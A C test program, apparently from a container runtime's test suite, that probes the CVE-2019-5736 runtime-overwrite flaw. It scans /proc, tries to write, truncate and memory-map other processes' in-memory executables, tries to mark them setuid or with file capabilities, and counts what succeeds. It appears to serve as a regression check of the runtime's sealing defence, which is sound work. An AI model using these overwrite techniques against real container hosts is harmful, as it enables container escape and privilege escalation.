/* SPDX-License-Identifier: Apache-2.0 */
/*
 * overwrite: the first process of a container that is after the runtime (CVE-2019-5736). Opens the
 * executables of all other processes that it sees, and tries to change those that are memory, while
 * they are executed and, by the descriptors that it keeps, when they are not any more. Ends with its
 * standard input, and says how often it has seen one, opened it for writing, changed its content, and
 * changed its owner or mode.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#define KEPT 16

static unsigned long seen, opened, changed, marked;

static int is_memory(int file)
{
	char link[32], name[64];
	ssize_t length;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", file);
	length = readlink(link, name, sizeof(name));
	return length > 7 && !memcmp(name, "/memfd:", 7);
}

static void change(int file)
{
	changed += write(file, "x", 1) == 1;
	changed += pwrite(file, "x", 1, 4096) == 1;
	changed += ftruncate(file, 0) == 0;
	changed += ftruncate(file, 1 << 20) == 0;
	changed += fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0;
	changed += mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED;
}

/* What no seal prevents: whoever executes the file next would be another user. */
static void mark(const char *link)
{
	static const unsigned char capability[20] = {1, 0, 0, 2, 1};

	marked += chmod(link, 06777) == 0;
	marked += setxattr(link, "security.capability", capability, sizeof(capability), 0) == 0;
	marked += chown(link, 1000, 1000) == 0;
}

static void attack(int file)
{
	static const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND};
	char link[32];

	snprintf(link, sizeof(link), "/proc/self/fd/%d", file);
	changed += truncate(link, 0) == 0;
	for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		int writable = open(link, flags[i] | O_CLOEXEC);

		if (writable < 0)
			continue;
		opened++;
		change(writable);
		close(writable);
	}
	changed += open(link, O_WRONLY | O_TRUNC | O_CLOEXEC) >= 0;
	mark(link);
}

static void attack_all(int *kept)
{
	DIR *processes = opendir("/proc");
	struct dirent *entry;

	while ((entry = readdir(processes))) {
		char path[sizeof("/proc//exe") + sizeof(entry->d_name)];
		int file;

		if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
		file = open(path, O_PATH | O_CLOEXEC);
		if (file < 0)
			continue;
		if (is_memory(file)) {
			attack(file);
			kept[seen++ % KEPT] = dup(file);
		}
		close(file);
	}
	closedir(processes);
}

int main(void)
{
	struct pollfd input = {.fd = 0, .events = POLLIN};
	int kept[KEPT] = {0};

	puts("attacking");
	fflush(stdout);
	while (poll(&input, 1, 0) == 0)
		attack_all(kept);
	for (unsigned long i = 0; i < seen && i < KEPT; i++)
		attack(kept[i]);
	printf("seen %lu, opened %lu, changed %lu, marked %lu\n", seen, opened, changed, marked);
	return 0;
}
